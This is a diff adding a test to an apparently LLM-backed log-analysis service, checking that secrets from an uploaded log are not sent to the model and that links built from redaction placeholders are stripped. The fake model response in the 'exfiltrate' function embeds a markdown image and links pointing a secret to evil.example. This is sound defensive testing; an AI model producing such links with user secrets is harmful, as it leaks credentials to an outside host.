@@ -567,3 +567,37 @@ async def test_sse_provider_failing_mid_answer_is_announced_and_the_next_one_ans
     assert after == done["agent_response"]
     assert done["investigation"]["provider"] == "secondary"
     assert standins.state.messages[case_id][1]["metadata"]["provider"] == "secondary"
+
+
+async def test_a_link_built_from_placeholders_is_stripped_once_restored(
+    settings: Any, case_id: str, auth: dict[str, str], fake: FakeLLMServer
+) -> None:
+    log = (
+        "2024-01-01T10:00:00Z ERROR login failed password=hunter2pw for ops@evil.example\n"
+        "2024-01-01T10:00:01Z INFO ok\n2024-01-01T10:00:02Z INFO ok"
+    )
+
+    def exfiltrate(request: FakeRequest) -> str:
+        email = re.search(r"<EMAIL_\d+>", request.text).group(0)  # type: ignore[union-attr]
+        secret = re.search(r"<SECRET_\d+>", request.text).group(0)  # type: ignore[union-attr]
+        return turn_json(
+            f"See ![s](http://{email}/p.png?d={secret}) or http://{email}/x?d={secret} "
+            f"[here](https://{email}/y)",
+            cited_sources=[],
+        )
+
+    fake.responder = exfiltrate
+    for accept in ("application/json", "text/event-stream"):
+        async with running(settings) as client:
+            resp = await post_turn(
+                client,
+                case_id,
+                auth,
+                query=QUERY,
+                files={"files": ("auth.log", log.encode(), "text/plain")},
+                headers={"Accept": accept},
+            )
+        assert resp.status_code == 200
+        assert "hunter2pw" not in resp.text
+        assert "evil.example/" not in resp.text
+        assert "hunter2pw" not in fake.all_text()
